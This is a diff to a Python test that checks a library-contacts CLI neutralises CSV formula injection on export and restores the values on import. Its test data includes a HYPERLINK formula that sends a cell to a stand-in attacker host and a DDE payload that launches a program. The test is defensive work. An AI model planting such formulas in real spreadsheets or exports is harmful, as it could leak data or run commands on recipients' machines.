@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import uuid
 from collections.abc import Callable, Iterator
 from datetime import UTC, datetime, timedelta
@@ -312,10 +314,29 @@ def test_export_then_import_round_trips(
             store(session, Incoming(raw=raw, source="file", mailbox="test"), services.clock.now())
     assert Runtime(services).process().done == 3
     assert run("libraries", "import", _write(tmp_path, "gb.csv", GB_CSV, "gb18030")).exit_code == 0
+    # Library text a spreadsheet would run as a formula (CSV injection), one per trigger.
+    formulas = {
+        "interests": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "communication": "+e-mail, monthly",
+        "contact_name": "-John Mwangi",
+        "commitment": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "website": "\thttps://nairobi.example.ke",
+        "size": "\r12,000",
+    }
     with services.db.unit_of_work() as session:
         session.get(Library, 4).contacts[0].status = "bouncing"
+        nairobi = session.get(Library, 3)
+        nairobi.fields = {**nairobi.fields, **formulas}
     exported = run("libraries", "export")
     assert exported.exit_code == 0, exported.output
+    cells = [
+        cell
+        for row in csv.reader(io.StringIO(exported.stdout_bytes.decode("utf-8-sig"), newline=""))
+        for cell in row
+    ]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    for value in formulas.values():
+        assert "'" + value in cells
     assert exported.stdout_bytes.startswith(b"\xef\xbb\xbf")
     header = exported.stdout_bytes.decode("utf-8-sig").splitlines()[0]
     assert header == (
@@ -353,6 +374,7 @@ def test_export_then_import_round_trips(
     assert details(fresh) == details(services)
     assert details(fresh)[3][-1] == [("chenjing@gzlib.example.cn", "bouncing")]
     assert details(fresh)[2][4] == ["city"]
+    assert {k: details(fresh)[2][0][k] for k in formulas} == formulas  # the `'` is taken off
 
 
 ALLOWED = Importable(("seeking", "incomplete", "hidden", "withdrawn", "unreachable"), "seeking")
